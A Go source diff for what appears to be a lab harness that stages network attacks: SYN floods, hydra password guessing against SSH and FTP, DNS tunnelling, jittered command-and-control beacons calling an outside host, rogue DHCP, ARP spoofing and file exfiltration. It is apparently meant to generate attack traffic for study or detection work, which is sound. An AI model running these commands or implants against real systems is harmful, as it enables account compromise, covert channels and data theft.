@@ -23,7 +23,8 @@ var tools = []tool{
 	{name: "hping3", what: "scans, floods of SYN and of UDP", play: hping},
 	{name: "hydra", what: "guesses passwords of sshd and vsftpd", play: hydra},
 	{name: "iodine", what: "a network in DNS", play: iodine},
-	{name: "beacon", what: "calls home over TCP, HTTP, TLS, DNS, with jitter", play: beacon},
+	{name: "beacon", what: "calls home over TCP, HTTP and TLS, with jitter", play: beacon},
+	{name: "dns-beacon", what: "calls home by questions for names, with jitter", play: dnsBeacon},
 	{name: "dnsmasq", what: "a second DHCP server", play: rogueDHCP, alone: true},
 	{name: "arpspoof", what: "another's address on one's own card", play: arpspoof},
 	{name: "scp", what: "files that leave", play: scp},
@@ -119,12 +120,12 @@ func hydra(n *network) error {
 	}
 	tasks, count := n.between(1, 6), n.between(30, 100)
 	n.note("%s, %d at a time, %s", service, tasks, who[:2])
-	if within := 30 * time.Second; tasks > 1 {
-		n.attack(within)
-	} else {
-		n.attack(2 * within) // a server of FTP takes seconds to refuse a password
+	within := 30 * time.Second
+	if tasks < 3 { // a server takes seconds to refuse a password, and of a connection of SSH three refusals count
+		within = 120 * time.Second / time.Duration(tasks)
 	}
-	return n.on("attacker", 60*time.Second, "hydra -I %s -P %s -t %d %s://%s", who, n.words(count), tasks, service, n.addr("server"))
+	n.attack(within)
+	return n.on("attacker", within, "hydra -I %s -P %s -t %d %s://%s", who, n.words(count), tasks, service, n.addr("server"))
 }
 
 // --- calling home ---
@@ -139,7 +140,7 @@ func iodine(n *network) error {
 	if n.IntN(2) == 0 {
 		n.note("through a resolver")
 		ask = n.addr("gateway")
-		if err := n.dns(fmt.Sprintf("--server=/tunnel.example.com/%s", n.outside)); err != nil {
+		if err := n.dns(); err != nil {
 			return err
 		}
 	}
@@ -152,9 +153,13 @@ func iodine(n *network) error {
 		n.between(10, 30), 0.2+n.Float64()/2, n.between(56, 600))
 }
 
-func beacon(n *network) error {
-	n.find = []string{"beacon", "tunnel", "dnssecurity"}
-	kind, period := n.one("tcp", "http", "tls", "dns"), 1.5+3*n.Float64()
+func beacon(n *network) error { return n.callHome(n.one("tcp", "http", "tls")) }
+
+func dnsBeacon(n *network) error { return n.callHome("dns") }
+
+func (n *network) callHome(kind string) error {
+	n.find = []string{"beacon"}
+	period := 1.5 + 3*n.Float64()
 	jitter := []float64{0, 0.02, 0.1, 0.2, 0.3}[n.IntN(5)]
 	port := map[string]int{"tcp": n.between(1024, 60000), "http": 80, "tls": 443, "dns": 53}[kind]
 	n.note("%s, each %.1f s, jitter %g %%", kind, period, 100*jitter)
@@ -166,7 +171,7 @@ func beacon(n *network) error {
 	if err := n.serve("gateway", port, "/usr/bin/python3 home.py %s %s %d", kind, n.outside, port); err != nil {
 		return err
 	}
-	calls := 8 + int(60*jitter)
+	calls := 10 + int(60*jitter)
 	n.attack(time.Duration(float64(calls)*period*float64(time.Second)) + 15*time.Second)
 	return n.on("client", time.Minute*3, "/usr/bin/python3 implant.py %s %s %d %.2f %g %d", kind, n.outside, port, period, jitter, calls)
 }
@@ -381,10 +386,13 @@ while True:
 // --- what is there to be attacked, and what goes on beside it ---
 
 // dns lets the gateway resolve names.
-func (n *network) dns(more string) error {
-	_, err := n.leave("gateway", "exec dnsmasq --keep-in-foreground --conf-file=/dev/null --pid-file= --user=root --no-resolv --no-hosts --bind-interfaces --listen-address=%s --cache-size=0 "+
-		"--address=/example.net/%s --local=/example.net/ %s", n.addr("gateway"), n.outside, more)
-	return err
+func (n *network) dns() error {
+	if n.resolves {
+		return nil
+	}
+	n.resolves = true
+	return n.serve("gateway", 53, "exec dnsmasq --keep-in-foreground --conf-file=/dev/null --pid-file= --user=root --no-resolv --no-hosts --bind-interfaces --listen-address=%[1]s --cache-size=0 "+
+		"--address=/example.net/%[2]s --local=/example.net/ --server=/tunnel.example.com/%[2]s", n.addr("gateway"), n.outside)
 }
 
 func (n *network) web(host string) error {
@@ -425,10 +433,8 @@ func (n *network) ordinary() error {
 	if err := n.web("gateway"); err != nil {
 		return err
 	}
-	if !slices.Contains(n.what, "through a resolver") {
-		if err := n.dns(""); err != nil {
-			return err
-		}
+	if err := n.dns(); err != nil {
+		return err
 	}
 	_, err := n.leave("desk", `while :; do
 for i in $(seq $(shuf -i 1-4 -n 1)); do dig +tries=1 +time=1 @%[1]s $(shuf -e www img api mail cdn -n 1).example.net >/dev/null; curl -s -m 5 -o /dev/null http://%[2]s/page$i.html; done
